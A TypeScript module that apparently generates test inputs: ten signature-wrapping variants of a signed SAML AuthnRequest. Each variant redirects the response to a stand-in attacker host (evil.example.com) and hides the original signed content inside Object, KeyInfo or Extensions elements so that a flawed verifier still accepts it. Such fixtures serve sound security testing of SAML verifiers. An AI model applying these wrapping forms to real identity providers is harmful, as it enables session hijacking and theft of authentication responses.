/** @module Signature wrapping of AuthnRequests, for the verifier and for the endpoint: what the attacker wants is an answer elsewhere. */

/** Each form by what it is, and its XML. @param original a signed request that names `acsUrl` and has the ID `id`. */
export function wrappedRequests(
  original: string,
  { acsUrl, id }: { readonly acsUrl: string; readonly id: string },
): readonly (readonly [string, string])[] {
  const signature = /<ds:Signature .*<\/ds:Signature>/s.exec(original)?.[0] ?? '';
  const bare = original.replace(signature, '');

  /** A request that sends the answer to the attacker; what it holds is put behind its issuer. */
  const evil = (content: string, evilId = '_evil') =>
    bare
      .replace(acsUrl, 'https://evil.example.com/acs')
      .replace(id, evilId)
      .replace('</saml:Issuer>', `</saml:Issuer>${content}`);
  const within = (element: string, content: string) => `<samlp:${element}>${content}</samlp:${element}>`;
  const object = (content: string) =>
    signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`);
  const keyInfo = (content: string) =>
    signature
      .replace('</ds:SignatureValue>', `</ds:SignatureValue><ds:KeyInfo>${content}</ds:KeyInfo>`)
      .replace(/<\/ds:KeyInfo><ds:KeyInfo>/, '');

  return [
    ['the original beside the signature, its ID in the reference', evil(`${signature}${bare}`)],
    ['the original in an Object of the signature', evil(object(bare))],
    ['the original in the KeyInfo of the signature', evil(keyInfo(bare))],
    ['the original in Extensions, the signature moved up', evil(`${signature}${within('Extensions', bare)}`)],
    [
      'the original with its signature in Extensions, and the signature again',
      evil(`${signature}${within('Extensions', original)}`),
    ],
    [
      'the original with its signature in Extensions, under the same ID',
      evil(`${signature}${within('Extensions', original)}`, id),
    ],
    ['the original in Extensions, under the same ID', evil(`${signature}${within('Extensions', bare)}`, id)],
    ['the attacker under the same ID, original in an Object', evil(object(bare), id)],
    ['the whole original with its signature as only child', evil(original)],
    ['the attacker inside the original', original.replace('</samlp:AuthnRequest>', `${evil('')}</samlp:AuthnRequest>`)],
  ];
}
